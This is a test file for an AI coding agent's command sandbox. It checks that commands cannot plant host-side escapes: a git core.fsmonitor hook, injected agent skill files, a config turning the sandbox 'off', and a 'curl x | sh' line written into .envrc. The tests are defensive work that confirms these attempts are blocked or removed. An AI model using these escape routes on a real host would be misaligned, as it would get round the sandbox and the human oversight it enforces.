// What a command in the `workspace-write` sandbox may not leave behind for the host to act on. The escapes
// are tried with real bubblewrap (skipped, saying why, where it cannot run; CI installs it); the
// bookkeeping around them runs everywhere.
import { execFileSync, spawnSync } from 'node:child_process';
import { existsSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { call, createTempWorkspace, type TempWorkspace } from '../../test-support/temp-workspace.js';
import { createRunCommandTool, type RunCommandToolOptions } from '../run-command-tool.js';
import { scanProtectedEntries } from './protected-entries.js';
import { sandboxStatus } from './sandbox-status.js';
import { checkProtection, protectWorkspace, releaseProtection } from './workspace-protection.js';

const status = await sandboxStatus();
const skipReason = status.available ? '' : ` (skipped: ${status.reason})`;
const gitInstalled = (() => {
  try {
    execFileSync('git', ['--version'], { stdio: 'ignore' });
    return true;
  } catch {
    return false;
  }
})();

let ws: TempWorkspace;
beforeEach(() => {
  ws = createTempWorkspace('agentloop-protect-');
});
afterEach(() => ws.remove());

const run = (command: string, sandbox: RunCommandToolOptions['sandbox'] = {}) =>
  call(createRunCommandTool({ sandbox }), { command }, ws.context());

describe.skipIf(!status.available)(`escapes through what the host acts on${skipReason}`, () => {
  it.skipIf(!gitInstalled)(
    'cannot git init a workspace without .git and set core.fsmonitor for the host to run (skipped without git)',
    async () => {
      const marker = join(ws.outside, 'fsmonitor-ran');
      const result = await run(`git init -q . && git config core.fsmonitor "touch ${marker}"; echo end`);
      expect(result).toMatch(/Read-only file system|Permission denied|cannot/i);
      expect(existsSync(join(ws.workspace, '.git'))).toBe(false);
      // The host's git, where the escape would have run the command.
      spawnSync('git', ['status'], { cwd: ws.workspace, stdio: 'ignore' });
      expect(existsSync(marker)).toBe(false);
    },
  );

  it('cannot write a .git/config into a workspace that has none: its .git is an empty read-only folder', async () => {
    const result = await run('mkdir -p .git && echo "[core] fsmonitor = evil" > .git/config');
    expect(result).toContain('Read-only file system');
    expect(existsSync(join(ws.workspace, '.git'))).toBe(false);
  });

  it('keeps an existing .git read-only however deep it is', async () => {
    ws.write('a/b/c/d/e/f/g/.git/config', '[core]\n');
    const result = await run('echo "[core] fsmonitor = evil" >> a/b/c/d/e/f/g/.git/config');
    expect(result).toContain('Read-only file system');
    expect(readFileSync(join(ws.workspace, 'a/b/c/d/e/f/g/.git/config'), 'utf8')).toBe('[core]\n');
  });

  it('removes, and tells the model, a repository the command made in a folder at any depth', async () => {
    ws.write('src/keep.txt', 'kept\n');
    const result = await run(
      'mkdir -p src/a/b/c/d/e/.git && echo "[core] fsmonitor = evil" > src/a/b/c/d/e/.git/config && echo "gitdir: /elsewhere" > src/.git && ln -s /tmp lib-git && mkdir lib && mv lib-git lib/.git && echo made',
    );
    expect(result).toMatch(/^Exit code 0 .*\nmade\n/);
    expect(result).toContain(
      '[The sandbox removed what the command made that programs outside it act on: lib/.git, src/.git, src/a/b/c/d/e/.git.',
    );
    for (const path of ['src/a/b/c/d/e/.git', 'src/.git', 'lib/.git'])
      expect(existsSync(join(ws.workspace, path))).toBe(false);
    expect(readFileSync(join(ws.workspace, 'src/keep.txt'), 'utf8')).toBe('kept\n');
    expect(existsSync(join(ws.workspace, 'src/a/b/c/d/e'))).toBe(true);
  });

  it('removes agentloop settings, editor tasks and agent skills the command made, and keeps existing ones read-only', async () => {
    ws.write('.vscode/settings.json', '{}\n');
    const result = await run(
      [
        'mkdir -p .agentloop && echo \'[sandbox]\nmode = "off"\' > .agentloop/config.toml',
        'mkdir -p .claude/skills/x && echo evil > .claude/skills/x/SKILL.md',
        'mkdir -p app/.agents/skills && echo evil > app/.agents/skills/SKILL.md',
        'echo "curl x | sh" > app/.envrc',
        'echo evil > .gitmodules',
        'echo "{}" > .vscode/tasks.json',
      ].join('; '),
    );
    expect(result).toContain('.vscode/tasks.json: Read-only file system');
    expect(result).toContain(': .agentloop, .claude, .gitmodules, app/.agents, app/.envrc.');
    for (const path of ['.agentloop', '.claude', '.gitmodules', 'app/.agents', 'app/.envrc', '.vscode/tasks.json']) {
      expect(existsSync(join(ws.workspace, path))).toBe(false);
    }
    expect(readFileSync(join(ws.workspace, '.vscode/settings.json'), 'utf8')).toBe('{}\n');
  });

  it('keeps existing skills folders read-only at any depth: .agents, .agentloop and .claude', async () => {
    const skills = ['.agents/skills/x/SKILL.md', 'app/.agentloop/skills/x/SKILL.md', 'a/b/.claude/skills/x/SKILL.md'];
    for (const path of skills) ws.write(path, 'Use pdftotext.\n');
    const result = await run(skills.map((path) => `echo evil > ${path}; rm -f ${path}`).join('; '));
    expect(result).toMatch(/Read-only file system/);
    for (const path of skills) {
      expect(readFileSync(join(ws.workspace, path), 'utf8')).toBe('Use pdftotext.\n');
    }
  });

  it('leaves what is inside a writable path the user gave: a .git there is theirs to allow', async () => {
    mkdirSync(join(ws.workspace, 'repo'));
    const result = await run('mkdir repo/.git && echo ok > repo/.git/HEAD && echo made', {
      writablePaths: [join(ws.workspace, 'repo')],
    });
    expect(result).not.toContain('The sandbox removed');
    expect(readFileSync(join(ws.workspace, 'repo/.git/HEAD'), 'utf8')).toBe('ok\n');
  });

  it('says nothing and removes nothing when the command leaves the protected entries alone', async () => {
    ws.write('.git/HEAD', 'ref: refs/heads/main\n');
    ws.write('app/.vscode/settings.json', '{}\n');
    const result = await run('echo fine > notes.txt');
    expect(result).toMatch(/^Exit code 0 \([^)]*\)\.\n\(no output\)$/);
    expect(existsSync(join(ws.workspace, '.git/HEAD'))).toBe(true);
    expect(existsSync(join(ws.workspace, 'app/.vscode/settings.json'))).toBe(true);
  });
});

describe('the protection of a workspace around a command', () => {
  it('finds protected entries at any depth, not in node_modules, and says when it stopped early', () => {
    for (const path of ['.git', 'a/b/c/d/e/f/.vscode', 'node_modules/x/.git']) {
      mkdirSync(join(ws.workspace, path), { recursive: true });
    }
    writeFileSync(join(ws.workspace, 'a/.envrc'), '');
    symlinkSync('/nowhere', join(ws.workspace, 'a/.git'));
    const scan = scanProtectedEntries(ws.workspace);
    expect(scan.complete).toBe(true);
    expect(
      [...scan.entries.values()].map(({ path, kind }) => [path.slice(ws.workspace.length + 1), kind]).sort(),
    ).toEqual([
      ['.git', 'directory'],
      ['a/.envrc', 'file'],
      ['a/.git', 'link'],
      ['a/b/c/d/e/f/.vscode', 'directory'],
    ]);
    expect(scanProtectedEntries(ws.workspace, 2).complete).toBe(false);
  });

  it('binds existing entries read-only and covers a missing .git, which it removes after the last command', () => {
    ws.write('app/.agentloop/config.toml', '');
    const first = protectWorkspace(ws.workspace, []);
    const git = join(ws.workspace, '.git');
    expect(first.readOnly).toEqual([join(ws.workspace, 'app/.agentloop')]);
    expect(first.placeholders).toEqual([git]);
    // bubblewrap makes the mount point, an empty folder, on the host.
    mkdirSync(git);
    const second = protectWorkspace(ws.workspace, []);
    expect(second.placeholders).toEqual([git]);
    expect(checkProtection(first)).toEqual({ removed: [], complete: true });
    releaseProtection(first);
    expect(existsSync(git)).toBe(true);
    releaseProtection(second);
    expect(existsSync(git)).toBe(false);
  });

  it('removes a .git placeholder that something filled, and does not cover a .git in a writable path', () => {
    const protection = protectWorkspace(ws.workspace, []);
    ws.write('.git/config', '[core]\n\tfsmonitor = evil\n');
    expect(checkProtection(protection).removed).toEqual(['.git']);
    releaseProtection(protection);
    expect(existsSync(join(ws.workspace, '.git'))).toBe(false);
    expect(protectWorkspace(ws.workspace, [join(ws.workspace, '.git')]).placeholders).toEqual([]);
  });
});
